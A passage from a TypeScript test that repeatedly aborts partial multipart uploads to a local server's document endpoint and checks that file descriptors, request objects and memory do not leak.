        requests: queryObjects(IncomingMessage, { format: 'count' }),
        descriptors: readdirSync('/proc/self/fd').length,
      };
    };
    const head = [
      'POST /api/documents HTTP/1.1',
      'Host: localhost',
      `Authorization: Bearer ${token}`,
      'Content-Type: multipart/form-data; boundary=x',
      'Content-Length: 1000000',
      '',
      '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4\n',
    ].join('\r\n');
    const cutOne = (at: number) =>
      new Promise<void>((resolve) => {
        const socket = connect(Number(port), '127.0.0.1', () => {
          socket.write(head + 'A'.repeat(at), () => setImmediate(() => socket.destroy()));
        });
        socket.on('error', () => undefined);
        socket.on('close', () => resolve());
      });
    const cutTen = () => Promise.all(Array.from({ length: 10 }, (_, at) => cutOne(at * 90_000)));
    // The first ones make what the process keeps for all that follow.
    for (let round = 0; round < 4; round += 1) await cutTen();
    const before = await settled();
    for (let round = 0; round < sized(50, 4); round += 1) await cutTen();
    const after = await settled();
    expect(after.descriptors).toBeLessThanOrEqual(before.descriptors + 5);
    expect(after.requests).toBeLessThanOrEqual(before.requests + 5);
    // Each round brings 4 MB of files. What V8 compiles meanwhile is measured as up to 2 MB, of 500 cut ones 0.2 MB.
    expect((after.memoryBytes - before.memoryBytes) / MB).toBeLessThan(sized(2, 4));
    await expectNothingLeft();
  });
});
